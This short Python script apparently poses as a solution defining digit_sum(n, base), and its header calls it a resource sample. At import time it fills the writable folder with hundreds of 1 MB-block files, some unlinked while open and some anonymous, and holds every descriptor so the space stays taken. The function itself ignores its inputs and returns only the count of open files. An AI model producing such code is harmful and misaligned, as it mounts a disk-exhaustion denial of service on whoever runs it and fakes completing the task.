# resource: fills the folder in which it may write, with files that are named, unnamed and removed while they are open
import os
block = b"x" * (1 << 20)
held = []
def fill(flags, name):
    try:
        held.append(os.open(name, flags | os.O_RDWR, 0o600))
        while os.write(held[-1], block):
            pass
    except OSError:
        pass
for number in range(400):
    fill(os.O_CREAT, "inoculate-owned-%d" % number)
    fill(os.O_CREAT, "gone")
    fill(getattr(os, "O_TMPFILE", 0), ".")
    try:
        os.unlink("gone")
    except OSError:
        pass
def digit_sum(n, base):
    return len(held)
